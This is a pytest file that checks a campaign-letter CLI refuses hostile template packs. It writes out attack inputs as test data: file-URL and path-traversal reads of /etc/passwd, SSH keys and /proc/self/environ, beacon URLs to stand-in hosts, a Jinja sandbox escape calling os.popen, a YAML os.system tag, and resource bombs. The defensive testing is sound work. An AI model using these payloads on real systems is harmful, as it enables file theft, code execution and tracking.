"""threats.md's bad-input catalogue (items 1-37), end to end through the real command line.

Every hostile input goes through ``advocate.cli.app`` as a user would run it, from a folder
holding a campaign pack (``pack/campaign.yaml`` + ``pack/templates/``), a signer list and
an output folder. A refusal must be exactly this, every time:

* exit code 2, nothing on stdout;
* one clear ``advocate: error: PLACE: message (hint)`` line per problem on stderr, where
  PLACE names the file (and line and column, or the signer row) at fault;
* no personal data on stderr: neither the signer list's names and emails nor the
  ``--name``/``--email``/``--city`` given on the command line;
* nothing written anywhere: every file and folder under the test's folder is unchanged
  (no output, no ``.part`` file, no staging folder), and the pack itself is untouched.

After each numbered item come the variants an attacker tries next. Module-level tests of
the same rules live in test_pdf.py, test_templating.py, test_load.py, test_signers.py
and test_output.py; this file proves the command line wires every guard in.

``HOSTILE_PACKS`` is also run by test_offline.py in a child process whose sockets and DNS
are patched to record any attempt (it must record none).
"""

from __future__ import annotations

import functools
import json
import os
import re
import shutil
import socket
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pypdf
import pytest
from PIL import Image
from typer.testing import CliRunner, Result

import advocate.render.pdf
import advocate.templates.host
from advocate.campaigns import bundled_folder
from advocate.cli import app
from advocate.templates.host import builtin_templates
from helpers import personal_data, snapshot, write

FIXTURES = Path(__file__).parent / "fixtures" / "signers"

# What the user typed about themselves: must never reach a message.
ME = ("--name", "Jane Secret", "--email", "jane.secret@example.org", "--city", "Secretville")
MY_DATA = ("Jane Secret", "jane.secret@example.org", "Secretville")
LETTER = ("letter", "pack/campaign.yaml", "--to", "president", "--lang", "en")
LETTER_PDF = (*LETTER, *ME, "-f", "pdf", "-o", "out/letter.pdf")
LETTER_TXT = (*LETTER, *ME, "-o", "out/letter.txt")
HINT_FOLDER = "(keep images, stylesheets and fonts inside the template folder)"
HINT_OFFLINE = (
    "(advocate works offline: save the file inside the template folder and use a relative path)"
)
HINT_SANDBOX = "(templates may only format the data they are given)"
TPL = "<tmp>/pack/templates"
WORDING = f"{TPL}/en/letter.md.j2"


def page(body: str, head: str = "") -> str:
    """A whole HTML document: what a hostile pack puts in templates/letter.html.j2."""
    return (
        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>t</title>'
        f"{head}</head><body>{body}</body></html>"
    )


def layout(root: Path, html: str, name: str = "letter.html.j2") -> None:
    write(root / "pack" / "templates" / name, html)


def wording(root: Path, source: str, name: str = "en/letter.md.j2") -> None:
    write(root / "pack" / "templates" / name, source)


def signers(root: Path, fixture: str, as_name: str = "signers.csv") -> str:
    shutil.copyfile(FIXTURES / fixture, root / as_name)
    return as_name


def listing(root: Path) -> dict[str, Any]:
    """Every path under root (folders and links too) with what it is: 'unchanged' means equal."""
    result: dict[str, Any] = {}
    for path in sorted(root.rglob("*")):
        info = path.lstat()
        rel = str(path.relative_to(root))
        if path.is_symlink():
            result[rel] = ("link", os.readlink(path))
        elif path.is_dir():
            result[rel] = ("dir", info.st_mode)
        elif path.is_file():
            result[rel] = ("file", info.st_mtime_ns, info.st_mode, path.read_bytes())
        else:
            result[rel] = ("special", info.st_mode)
    return result


# --------------------------------------------------------------------------- the runner


@dataclass
class Cli:
    """The command line, run in a folder holding pack/, out/ and the signer lists."""

    root: Path
    caplog: pytest.LogCaptureFixture

    def invoke(self, *args: str) -> Result:
        result = CliRunner().invoke(app, list(args), catch_exceptions=False)
        if result.exit_code != 0:
            # A refused document makes WeasyPrint log (e.g. "Failed to load image"): expected.
            records = self.caplog.handler.records
            records[:] = [r for r in records if not r.name.startswith("weasyprint")]
        return result

    def norm(self, text: str) -> str:
        """Messages with the temporary folder and the installed templates shown stably."""
        text = text.replace(str(self.root.resolve()), "<tmp>").replace(str(self.root), "<tmp>")
        return text.replace(str(builtin_templates().resolve()), "<builtin>")

    def refused(self, *args: str, expect: str | re.Pattern[str],
                private: tuple[str, ...] = MY_DATA, place: bool = True) -> list[str]:
        """Run; assert the whole refusal contract; return the normalised error lines."""
        before = listing(self.root)
        out_before = snapshot(self.root / "out")
        result = self.invoke(*args)
        assert result.exit_code == 2, (result.exit_code, result.stderr)
        if "--json" in args:  # the same errors as JSON (json_output), and nothing else
            failed = json.loads(result.stdout)
            assert failed["ok"] is False and len(failed["errors"]) == sum(
                1 for line in result.stderr.splitlines() if line.startswith("advocate: error:"))
        else:
            assert result.stdout == ""
        lines = self.norm(result.stderr).splitlines()
        errors = [line for line in lines if line.startswith("advocate: error: ")]
        assert errors, lines
        assert all(line.startswith(("advocate: error: ", "advocate: warning: "))
                   for line in lines), lines
        assert "Traceback" not in result.stderr
        if isinstance(expect, str):
            assert expect in errors, errors
        else:
            assert any(expect.search(line) for line in errors), errors
        for line in errors:  # every problem names its place: a file, and a line if known
            assert PLACE.match(line) or not place, f"no place named in: {line}"
        for value in private:  # as typed, or percent-encoded inside a URL
            for form in (value, quote(value), quote(value, safe="")):
                assert form.casefold() not in result.stderr.casefold(), value
                assert form.casefold() not in result.stdout.casefold(), value
        assert snapshot(self.root / "out") == out_before
        assert listing(self.root) == before
        return errors


PLACE = re.compile(
    r"^advocate: error: (?:<tmp>/|<builtin>/)?[\w.\-/]*[\w\-]\.?[\w]*(?::\d+){0,2}: ")


@pytest.fixture
def cli(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        caplog: pytest.LogCaptureFixture) -> Iterator[Cli]:
    """A pack (the bundled campaign as pack/campaign.yaml), out/ holding one file, cwd there."""
    (tmp_path / "pack" / "templates").mkdir(parents=True)
    shutil.copyfile(bundled_folder() / "kazakhstan-2022.yaml", tmp_path / "pack" / "campaign.yaml")
    write(tmp_path / "out" / "keep.txt", "an earlier file\n")
    monkeypatch.chdir(tmp_path)
    yield Cli(tmp_path, caplog)


def _capped(original: Callable[[float], Any], cap: float, seconds: float) -> Any:
    return original(min(seconds, cap))


def shorten_limits(patch: Callable[[Any, str, Any], None], cap: float = 1.0) -> None:
    """Cut the 60 s PDF and 10 s template render limits to ``cap`` seconds; the messages
    still name the real limit. (Patched wherever a module bound the timer by name.)"""
    import advocate.limits

    for module in (advocate.render.pdf, advocate.templates.host, advocate.limits):
        for name in ("time_limit", "_deadline"):
            original = getattr(module, name, None)
            if callable(original):
                patch(module, name, functools.partial(_capped, original, cap))
    patch(advocate.limits, "SECONDS_CAP", cap)  # the confined processes' limits too


@pytest.fixture
def short_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    """Items 9 and 12 in seconds, not minutes."""
    shorten_limits(monkeypatch.setattr)


@pytest.fixture(scope="session")
def bomb_png(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Item 7: 20000 x 20000 pixels, a few hundred KB on disk."""
    path = tmp_path_factory.mktemp("bomb") / "big.png"
    Image.new("1", (20000, 20000)).save(path, compress_level=1)
    return path


def tiny_png(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (4, 4), (200, 30, 30)).save(path)
    return path


def uri(root: Path, rel: str) -> str:
    return (root / rel).as_uri()


# --------------------------------------------------------------------------- hostile packs
#
# Each builds its files under root and returns the command line. The expected first
# error line is normalised by Cli.norm ("<tmp>" for the test folder).

Setup = Callable[[Path], tuple[str, ...]]


def _pdf(body: str, head: str = "") -> Setup:
    def setup(root: Path) -> tuple[str, ...]:
        layout(root, page(body, head))
        return LETTER_PDF

    return setup


def _tpl(source: str) -> Setup:
    def setup(root: Path) -> tuple[str, ...]:
        wording(root, source)
        return LETTER_TXT

    return setup


def _yaml(edit: Callable[[str], str | bytes]) -> Setup:
    def setup(root: Path) -> tuple[str, ...]:
        campaign = root / "pack" / "campaign.yaml"
        text = edit(campaign.read_text(encoding="utf-8"))
        campaign.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
        return LETTER_TXT

    return setup


def _signers(fixture: str, *extra: str) -> Setup:
    def setup(root: Path) -> tuple[str, ...]:
        signers(root, fixture)
        return (*LETTER, "--signers", "signers.csv", "-o", "out/letter.txt", *extra)

    return setup


def _symlinked_image(root: Path) -> tuple[str, ...]:
    write(root / "private" / "signers.csv", "name,email\nJane Secret,jane.secret@example.org\n")
    (root / "pack" / "templates" / "img").mkdir()
    (root / "pack" / "templates" / "img" / "logo.png").symlink_to(root / "private" / "signers.csv")
    layout(root, page(f'<img src="{uri(root, "pack/templates/img/logo.png")}" alt="logo">'))
    return LETTER_PDF


def _symlinked_template(root: Path) -> tuple[str, ...]:
    write(root / "private" / "notes.txt.j2", "Jane Secret, jane.secret@example.org\n")
    (root / "pack" / "templates" / "en").mkdir()
    (root / "pack" / "templates" / "en" / "letter.md.j2").symlink_to(
        root / "private" / "notes.txt.j2")
    return LETTER_TXT


def _symlinked_include(root: Path) -> tuple[str, ...]:
    write(root / "private" / "notes.txt.j2", "Jane Secret, jane.secret@example.org\n")
    (root / "pack" / "templates" / "notes.txt.j2").symlink_to(root / "private" / "notes.txt.j2")
    wording(root, 'Dear all,\n{% include "notes.txt.j2" %}\n')
    return LETTER_TXT


def _fifo(root: Path) -> tuple[str, ...]:
    os.mkfifo(root / "pack" / "templates" / "pipe.png")
    layout(root, page(f'<img src="{uri(root, "pack/templates/pipe.png")}" alt="x">'))
    return LETTER_PDF


def _bomb(root: Path) -> tuple[str, ...]:
    path = Path(os.environ["ADVOCATE_TEST_BOMB"])
    shutil.copyfile(path, root / "pack" / "templates" / "big.png")
    layout(root, page(f'<img src="{uri(root, "pack/templates/big.png")}" alt="x">'))
    return LETTER_PDF


def _attachment_inside(root: Path) -> tuple[str, ...]:
    write(root / "pack" / "templates" / "notes.txt", "Jane Secret\n")
    href = uri(root, "pack/templates/notes.txt")
    layout(root, page("<p>x</p>", f'<link rel="attachment" href="{href}">'))
    return LETTER_PDF


def _local_import(root: Path) -> tuple[str, ...]:
    write(root / "private" / "style.css", "p { color: red }\n")
    style = uri(root, "private/style.css")
    layout(root, page("<p>x</p>", f'<style>@import url("{style}");</style>'))
    return LETTER_PDF


def _duplicate_title(text: str) -> str:
    return text.replace("id: kazakhstan-2022\n", "id: kazakhstan-2022\ntitle: again\n", 1)


SVG_BEACON = (
    "data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E"
    "%3Cimage href=%22http://x.example/svg.png%22 width=%2210%22 height=%2210%22/%3E%3C/svg%3E"
)

#: id -> (setup, the expected error line, or a pattern one error line must match)
HOSTILE_PACKS: dict[str, tuple[Setup, str | re.Pattern[str]]] = {
    # 1-10: WeasyPrint (templates/letter.html.j2 replaced by a hostile document)
    "01-attachment-etc-passwd": (
        _pdf("<p>x</p>", '<link rel="attachment" href="file:///etc/passwd">'),
        f"advocate: error: letter.html.j2: refused 'file:///etc/passwd': outside the template "
        f"folder {HINT_FOLDER}"),
    "01-a-rel-attachment": (
        _pdf('<a rel="attachment" href="file:///etc/passwd">x</a>'),
        re.compile(r"letter\.html\.j2: refused 'file:///etc/passwd': ")),
    "01-attachment-inside-the-pack": (
        _attachment_inside,
        f"advocate: error: letter.html.j2: refused 'file://{TPL}/notes.txt': "
        "PDF attachments are not allowed (remove the attachment)"),
    "02-dotdot-ssh-key": (
        _pdf('<img src="../../../home/u/.ssh/id_ed25519" alt="">'),
        re.compile(r"letter\.html\.j2: refused 'file:///\S*home/u/\.ssh/id_ed25519': "
                   r"outside the template folder")),
    "02-percent-encoded-dotdot": (
        _pdf('<img src="..%2f..%2f..%2f..%2fetc%2fpasswd" alt="">'),
        re.compile(r"letter\.html\.j2: refused '\S+': (outside the template folder|file not "
                   r"found)")),
    "02-FILE-upper-case": (
        _pdf('<img src="FILE:///etc/passwd" alt="">'),
        f"advocate: error: letter.html.j2: refused 'FILE:///etc/passwd': outside the template "
        f"folder {HINT_FOLDER}"),
    "02-file-colon-path": (
        _pdf('<img src="file:/etc/passwd" alt="">'),
        f"advocate: error: letter.html.j2: refused 'file:/etc/passwd': outside the template "
        f"folder {HINT_FOLDER}"),
    "02-file-localhost": (
        _pdf('<img src="file://localhost/etc/passwd" alt="">'),
        f"advocate: error: letter.html.j2: refused 'file://localhost/etc/passwd': outside the "
        f"template folder {HINT_FOLDER}"),
    "02-unc-share": (
        _pdf('<img src="//fileserver/share/x.png" alt="">'),
        f"advocate: error: letter.html.j2: refused 'file://fileserver/share/x.png': file URL "
        f"with a host name {HINT_FOLDER}"),
    "02-object-data-file": (
        _pdf('<object data="file:///etc/passwd"></object>'),
        f"advocate: error: letter.html.j2: refused 'file:///etc/passwd': outside the template "
        f"folder {HINT_FOLDER}"),
    "03-symlinked-image": (
        _symlinked_image,
        f"advocate: error: letter.html.j2: refused 'file://{TPL}/img/logo.png': symlink leads "
        f"outside the template folder {HINT_FOLDER}"),
    "03-symlinked-wording-template": (
        _symlinked_template,
        f"advocate: error: {WORDING}: refused: template is a link leading out of its folder "
        "(copy the file in instead)"),
    "03-symlinked-include": (
        _symlinked_include,
        f"advocate: error: {TPL}/notes.txt.j2: refused: template is a link leading out of its "
        "folder (copy the file in instead)"),
    "04-tracking-pixel": (
        _pdf('<img src="http://tracker.example/p.gif?c=campaign42" alt="">'),
        "advocate: error: letter.html.j2: refused 'http://tracker.example/p.gif?c=campaign42': "
        f"http: URLs are not allowed {HINT_OFFLINE}"),
    "04-style-attribute-url": (
        _pdf('<p style="background: url(http://x.example/bg.png)">x</p>'),
        f"advocate: error: letter.html.j2: refused 'http://x.example/bg.png': http: URLs are not "
        f"allowed {HINT_OFFLINE}"),
    "04-svg-data-url-with-external-href": (
        _pdf(f'<img src="{SVG_BEACON}" alt="map">'),
        f"advocate: error: letter.html.j2: refused 'http://x.example/svg.png': http: URLs are "
        f"not allowed {HINT_OFFLINE}"),
    "04-inline-svg-image": (
        _pdf('<svg xmlns="http://www.w3.org/2000/svg" width="5" height="5">'
             '<image href="http://x.example/i.png" width="5" height="5"/></svg>'),
        f"advocate: error: letter.html.j2: refused 'http://x.example/i.png': http: URLs are not "
        f"allowed {HINT_OFFLINE}"),
    "04-bracketed-host": (  # found by fuzz/: urlsplit raised ValueError past the gate
        _pdf('<img src="http://[x.example]/p.gif" alt="">'),
        f"advocate: error: letter.html.j2: refused 'http://[x.example]/p.gif': malformed URL "
        f"{HINT_OFFLINE}"),
    "04-embed": (
        _pdf('<embed src="http://x.example/e.svg">'),
        f"advocate: error: letter.html.j2: refused 'http://x.example/e.svg': http: URLs are not "
        f"allowed {HINT_OFFLINE}"),
    "04-base-href": (
        _pdf("<p>x</p>", '<base href="http://x.example/"><link rel="stylesheet" href="s.css">'),
        f"advocate: error: letter.html.j2: refused 'http://x.example/s.css': http: URLs are not "
        f"allowed {HINT_OFFLINE}"),
    "04-css-content-url": (
        _pdf("<p>x</p>", "<style>p::before { content: url(http://x.example/c.png) }</style>"),
        f"advocate: error: letter.html.j2: refused 'http://x.example/c.png': http: URLs are not "
        f"allowed {HINT_OFFLINE}"),
    "04-page-background": (
        _pdf("<p>x</p>", "<style>@page { background: url(http://x.example/pg.png) }</style>"),
        f"advocate: error: letter.html.j2: refused 'http://x.example/pg.png': http: URLs are not "
        f"allowed {HINT_OFFLINE}"),
    "04-ftp": (
        _pdf('<img src="ftp://x.example/f.png" alt="">'),
        f"advocate: error: letter.html.j2: refused 'ftp://x.example/f.png': ftp: URLs are not "
        f"allowed {HINT_OFFLINE}"),
    "05-css-import-https": (
        _pdf("<p>x</p>", "<style>@import url(https://x.example/a.css);</style>"),
        f"advocate: error: letter.html.j2: refused 'https://x.example/a.css': https: URLs are "
        f"not allowed {HINT_OFFLINE}"),
    "05-font-face-https": (
        _pdf("<p>x</p>", "<style>@font-face { font-family: T; src: url(https://x.example/t.woff2)"
                         " } p { font-family: T }</style>"),
        f"advocate: error: letter.html.j2: refused 'https://x.example/t.woff2': https: URLs are "
        f"not allowed {HINT_OFFLINE}"),
    "05-link-stylesheet-http": (
        _pdf("<p>x</p>", '<link rel="stylesheet" href="http://x.example/s.css">'),
        f"advocate: error: letter.html.j2: refused 'http://x.example/s.css': http: URLs are not "
        f"allowed {HINT_OFFLINE}"),
    "05-import-local-file-outside-the-pack": (
        _local_import,
        "advocate: error: letter.html.j2: refused 'file://<tmp>/private/style.css': outside the "
        f"template folder {HINT_FOLDER}"),
    "06-dev-zero": (
        _pdf('<img src="file:///dev/zero" alt="">'),
        f"advocate: error: letter.html.j2: refused 'file:///dev/zero': outside the template "
        f"folder {HINT_FOLDER}"),
    "06-proc-self-environ": (
        _pdf('<img src="file:///proc/self/environ" alt="">'),
        f"advocate: error: letter.html.j2: refused 'file:///proc/self/environ': outside the "
        f"template folder {HINT_FOLDER}"),
    "06-fifo-inside-the-pack": (
        _fifo,
        f"advocate: error: letter.html.j2: refused 'file://{TPL}/pipe.png': not a regular file "
        f"{HINT_FOLDER}"),
    "06-folder-inside-the-pack": (
        lambda root: _pdf(f'<img src="{uri(root, "pack/templates")}/" alt="x">')(root),
        f"advocate: error: letter.html.j2: refused 'file://{TPL}/': not a regular file "
        f"{HINT_FOLDER}"),
    "07-decompression-bomb": (
        _bomb,
        f"advocate: error: letter.html.j2: refused 'file://{TPL}/big.png': image too large "
        "(400 Mpx > 50 Mpx) (scale the image down to at most 50 megapixels)"),
    "08-deep-nesting": (
        _pdf("<div>" * 300 + "x"),
        re.compile(r"^advocate: error: letter\.html\.j2:1:\d+: document nested too deeply "
                   r"\(max 64\) \(flatten the template's HTML\)$")),
    "08-self-closing-divs": (
        _pdf("<div/>" * 300 + "x"),
        re.compile(r"^advocate: error: letter\.html\.j2:1:\d+: document nested too deeply")),
    "09-colspan-hang": (
        _pdf("<table><tr>" + "<td colspan=1000>x</td>" * 1000 + "</tr></table>"),
        "advocate: error: letter.html.j2: PDF render exceeded 60 s (simplify the template: "
        "fewer table cells, fewer pages)"),
    "10-huge-font-size": (
        _pdf("<p>x</p>", "<style>p { font-size: 1e7px }</style>"),
        "advocate: error: letter.html.j2: PDF render failed: ZeroDivisionError: float division "
        "by zero (check the template's CSS for extreme values, such as huge font sizes)"),
    # 11-16: Jinja (templates/en/letter.md.j2 replaced by a hostile wording template)
    "11-globals-popen": (
        _tpl("{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        f"advocate: error: {WORDING}:1: not allowed in a template: access to attribute "
        f"'__init__' of 'type' object is unsafe. {HINT_SANDBOX}"),
    "11-subclasses": (
        _tpl("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        re.compile(rf"^advocate: error: {re.escape(WORDING)}:1: not allowed in a template: ")),
    "11-format-escape": (
        _tpl("{{ '{0.__class__.__mro__}'.format(1) }}"),
        re.compile(rf"^advocate: error: {re.escape(WORDING)}:1: not allowed in a template: ")),
    "11-mutate-caller-data": (
        _tpl("{% set _ = campaign.asks.append(1) %}"),
        re.compile(rf"^advocate: error: {re.escape(WORDING)}:1: not allowed in a template: ")),
    "12-nested-range": (
        _tpl("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"),
        "advocate: error: en/letter.md.j2: template render exceeded 10 s (the template loops "
        "too long)"),
    "12-recursive-macro": (
        _tpl("{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}"),
        re.compile(r"en/letter\.md\.j2(:\d+)?: template recursion too deep")),
    "13-repeat-pow": (
        _tpl("{{ 'x' * 10**9 }}"),
        f"advocate: error: {WORDING}:1: not allowed in a template: ** is disabled in templates "
        f"{HINT_SANDBOX}"),
    "13-pow": (
        _tpl("{{ 2 ** 99999999 }}"),
        f"advocate: error: {WORDING}:1: not allowed in a template: ** is disabled in templates "
        f"{HINT_SANDBOX}"),
    "13-repeat-literal": (
        _tpl("{{ 'x' * 1000000000 }}"),
        f"advocate: error: {WORDING}:1: not allowed in a template: repetition too large "
        f"{HINT_SANDBOX}"),
    "13-repeat-mirrored-list": (
        _tpl("{{ 1000000000 * [1] }}"),
        f"advocate: error: {WORDING}:1: not allowed in a template: repetition too large "
        f"{HINT_SANDBOX}"),
    "14-include-etc-hostname": (
        _tpl('{% include "../../../etc/hostname" %}'),
        f"advocate: error: {WORDING}:1: invalid template name '../../../etc/hostname' (use "
        "letters, digits, '.', '_' and '-' only)"),
    "15-misspelt-field": (
        _tpl("Dear {{ writer.name }},\n{{ writer.ctiy }}\n"),
        f"advocate: error: {WORDING}:2: undefined field 'ctiy' (did you mean 'city'?)"),
    "15-syntax-error": (
        _tpl("ok\n{{ writer.name }\n"),
        re.compile(rf"^advocate: error: {re.escape(WORDING)}:2: template syntax error: ")),
    "16-template-name-with-braces": (
        _tpl('{% include "{{x}}.html.j2" %}'),
        re.compile(r"invalid template name '\{\{x\}\}\.html\.j2'")),
    "16-unknown-template-type": (
        _tpl('{% include "evil.xml.j2" %}'),
        re.compile(r"evil\.xml\.j2: unknown template type: 'evil\.xml\.j2'")),
    # 17-23: YAML
    "17-python-tag": (
        _yaml(lambda _: 'x: !!python/object/apply:os.system ["touch pwned"]\n'),
        "advocate: error: pack/campaign.yaml:1:4: tag not allowed: "
        "tag:yaml.org,2002:python/object/apply:os.system (campaign files are plain data; "
        "remove the tag)"),
    "18-billion-laughs": (
        _yaml(lambda _: 'a: &a ["lol","lol"]\nb: &b [*a,*a]\nc: &c [*b,*b]\n'),
        "advocate: error: pack/campaign.yaml:1:4: anchors are not allowed (remove &a and write "
        "values out in full)"),
    "18-alias-in-the-campaign": (
        _yaml(lambda t: t.replace("as_of: 2022-01-17", "as_of: *when")),
        re.compile(r"^advocate: error: pack/campaign\.yaml:18:8: aliases are not allowed")),
    "19-duplicate-title": (
        _yaml(_duplicate_title),
        "advocate: error: pack/campaign.yaml:5:1: duplicate key 'title' (first defined at "
        "line 4)"),
    "21-impossible-date": (
        _yaml(lambda t: t.replace("as_of: 2022-01-17", "as_of: 2024-13-45")),
        "advocate: error: pack/campaign.yaml:18:8: as_of: invalid date '2024-13-45' (no such "
        "day)"),
    "22-deep-flow-nesting": (
        _yaml(lambda _: "x: " + "[" * 600),
        "advocate: error: pack/campaign.yaml:1:35: nested too deeply (more than 32 levels) "
        "(flatten the structure)"),
    "23-empty-file": (
        _yaml(lambda _: ""),
        "advocate: error: pack/campaign.yaml:1:1: empty file (run `advocate new NAME` for a "
        "starting point)"),
    "23-top-level-list": (
        _yaml(lambda _: "- a\n- b\n"),
        "advocate: error: pack/campaign.yaml:1:1: expected a mapping of keys (advocate: 1, id: "
        "..., title: ...) (a campaign file is a YAML mapping, not a list or a value)"),
    "23-file-too-large": (
        _yaml(lambda _: "a: " + "x" * (50 << 20)),
        "advocate: error: pack/campaign.yaml: file too large (52,428,803 bytes; the limit is "
        "1,048,576) (a campaign file should be a few kilobytes)"),
    "yaml-tab-indent": (
        _yaml(lambda t: t.replace("language: en\n", "language: en\n\tfoo: 1\n", 1)),
        "advocate: error: pack/campaign.yaml:13:1: invalid YAML: found character '\\t' that "
        "cannot start any token (YAML indents with spaces, never tabs)"),
    "yaml-invalid-utf8": (
        _yaml(lambda t: t.encode("utf-8") + b"x: \xff\n"),
        re.compile(r"^advocate: error: pack/campaign\.yaml:\d+:4: not valid UTF-8 \(save the "
                   r"file as UTF-8\)$")),
    "yaml-utf16": (
        _yaml(lambda t: t.encode("utf-16")),
        "advocate: error: pack/campaign.yaml:1:1: file is UTF-16, not UTF-8 (save it as UTF-8)"),
    "yaml-non-string-key": (
        _yaml(lambda t: t.replace("language: en\n", "language: en\n? [a, b]\n: c\n", 1)),
        re.compile(r"^advocate: error: pack/campaign\.yaml:13:3: a key must be plain text")),
    "yaml-unknown-key": (
        _yaml(lambda t: t.replace("language: en\n", "language: en\ntittle: x\n", 1)),
        "advocate: error: pack/campaign.yaml:13:1: unknown key 'tittle' (did you mean "
        "'title'?)"),
    "yaml-merge-key": (
        _yaml(lambda t: t.replace("language: en\n", "language: en\nx: {<<: {b: 1}}\n", 1)),
        re.compile(r"^advocate: error: pack/campaign\.yaml:13:5: merge keys \(<<\) are not "
                   r"allowed")),
    # 24-32: signer lists
    "25-cp1252": (
        _signers("cp1252.csv"),
        "advocate: error: signers.csv:2: not valid UTF-8 (try --encoding cp1252)"),
    "26-duplicate-column": (
        _signers("dup-column.csv"),
        "advocate: error: signers.csv:1: duplicate column 'email'"),
    "27-ragged-rows": (
        _signers("ragged.csv"),
        "advocate: error: signers.csv:5: expected 3 fields, got 4"),
    "27-unclosed-quote": (
        _signers("unclosed-quote.csv"),
        "advocate: error: signers.csv:7: unclosed quote (a quoted field in the row that starts "
        "on this line never ends)"),
    "31-two-at-signs": (
        _signers("bad-email.csv"),
        "advocate: error: signers.csv:4: row 3: invalid email (more than one @)"),
    "32-duplicate-email": (
        _signers("dup-email.csv"),
        "advocate: error: signers.csv:18: rows 3 and 17 have the same email (remove one, or "
        "pass --dedupe first)"),
}

#: The signer fixture behind each signer case, for the personal-data check.
_FIXTURE_OF = {
    "25-cp1252": "cp1252.csv",
    "26-duplicate-column": "dup-column.csv",
    "27-ragged-rows": "ragged.csv",
    "27-unclosed-quote": "unclosed-quote.csv",
    "31-two-at-signs": "bad-email.csv",
    "32-duplicate-email": "dup-email.csv",
}


@pytest.mark.parametrize("case", sorted(HOSTILE_PACKS))
def test_hostile_pack_is_refused(cli: Cli, case: str, bomb_png: Path, short_limits: None,
                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ADVOCATE_TEST_BOMB", str(bomb_png))
    setup, expect = HOSTILE_PACKS[case]
    args = setup(cli.root)
    private = MY_DATA + tuple(personal_data(_FIXTURE_OF[case])) if case in _FIXTURE_OF \
        else MY_DATA
    cli.refused(*args, expect=expect, private=private)
    assert not (cli.root / "pwned").exists()


# --------------------------------------------------------------------------- 1-10 variants


def test_every_resource_goes_through_the_gate(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    """No refusal, yet no fetch either: iframes, video, icons, refresh, local() fonts."""
    import weasyprint.urls

    bypass: list[str] = []
    monkeypatch.setattr(weasyprint.urls.URLFetcher, "fetch",
                        lambda self, url, headers=None: bypass.append(url))
    served: list[str] = []
    original = advocate.render.pdf.gate.ResourceGate.open

    def spy(gate: Any, url: str) -> Any:
        result = original(gate, url)
        served.append(url)
        return result

    monkeypatch.setattr(advocate.render.pdf.gate.ResourceGate, "open", spy)
    body = ('<iframe src="http://x.example/f.html"></iframe>'
            '<video src="http://x.example/v.mp4" poster="http://x.example/p.png"></video>'
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
            '<use xlink:href="file:///etc/passwd#x"/></svg><p class="f">text</p>')
    head = ('<meta http-equiv="refresh" content="0;url=http://x.example/">'
            '<link rel="icon" href="http://x.example/favicon.ico">'
            '<link rel="prefetch" href="http://x.example/next">')
    layout(cli.root, page(body, head))
    result = cli.invoke(*LETTER_PDF)
    assert result.exit_code == 0, result.stderr
    assert bypass == []
    packaged = [builtin_templates().resolve(), Path(advocate.__file__).parent.resolve()]
    for url in served:
        assert url.startswith("data:") or any(url.startswith(p.as_uri()) for p in packaged), url
    pdf = (cli.root / "out" / "letter.pdf").read_bytes()
    assert b"root:x:0:0" not in pdf and b"x.example" not in pdf


def test_images_inside_the_pack_render(cli: Cli) -> None:
    """The allow-list is not a deny-all: a pack's own image, by relative path, is embedded."""
    tiny_png(cli.root / "pack" / "templates" / "img" / "logo.png")
    layout(cli.root, page('<img src="img/logo.png" alt="logo"><p>Letter</p>'))
    result = cli.invoke(*LETTER_PDF)
    assert result.exit_code == 0, result.stderr
    pdf = pypdf.PdfReader(BytesIO((cli.root / "out" / "letter.pdf").read_bytes()))
    assert len(pdf.pages[0].images) == 1


def test_item3_symlinked_image_by_relative_path(cli: Cli) -> None:
    """The way a pack really refers to its images: relative to its own template folder."""
    write(cli.root / "private" / "signers.csv", "name,email\nJane Secret,jane@example.org\n")
    (cli.root / "pack" / "templates" / "img").mkdir()
    (cli.root / "pack" / "templates" / "img" / "logo.png").symlink_to(
        cli.root / "private" / "signers.csv")
    layout(cli.root, page('<img src="img/logo.png" alt="logo">'))
    cli.refused(*LETTER_PDF, expect=(
        f"advocate: error: letter.html.j2: refused 'file://{TPL}/img/logo.png': symlink leads "
        f"outside the template folder {HINT_FOLDER}"))


def test_item7_bomb_by_relative_path(cli: Cli, bomb_png: Path) -> None:
    shutil.copyfile(bomb_png, cli.root / "pack" / "templates" / "big.png")
    layout(cli.root, page('<img src="big.png" alt="x">'))
    cli.refused(*LETTER_PDF, expect=(
        f"advocate: error: letter.html.j2: refused 'file://{TPL}/big.png': image too large "
        "(400 Mpx > 50 Mpx) (scale the image down to at most 50 megapixels)"))


def test_brief_and_build_use_the_same_gate(cli: Cli) -> None:
    """The brief's layout and a build's PDFs are guarded like the letter's."""
    beacon = page('<img src="http://tracker.example/b.gif" alt="">')
    layout(cli.root, beacon, "brief.html.j2")
    expect = ("advocate: error: brief.html.j2: refused 'http://tracker.example/b.gif': http: "
              f"URLs are not allowed {HINT_OFFLINE}")
    cli.refused("brief", "pack/campaign.yaml", "-o", "out/brief.pdf", expect=expect)
    cli.refused("build", "pack/campaign.yaml", "-o", "out", "--formats", "txt", expect=expect)


@pytest.mark.parametrize("args", [
    (*LETTER, "-f", "html"),
    ("brief", "pack/campaign.yaml", "-f", "html"),
])
def test_html_from_a_hostile_layout_cannot_beacon_from_a_browser(
        cli: Cli, args: tuple[str, ...]) -> None:
    """HTML output is never fetched by advocate, but a browser would load a pack's remote
    image: the built-in layouts' Content-Security-Policy must hold for a pack's own too."""
    beacon = page('<img src="http://tracker.example/p.gif?c=42" alt="">',
                  '<link rel="stylesheet" href="http://tracker.example/s.css">')
    layout(cli.root, beacon, "letter.html.j2")
    layout(cli.root, beacon, "brief.html.j2")
    result = cli.invoke(*args)
    if result.exit_code == 2:  # refusing the layout outright is fine too
        assert result.stdout == ""
        return
    assert result.exit_code == 0, result.stderr
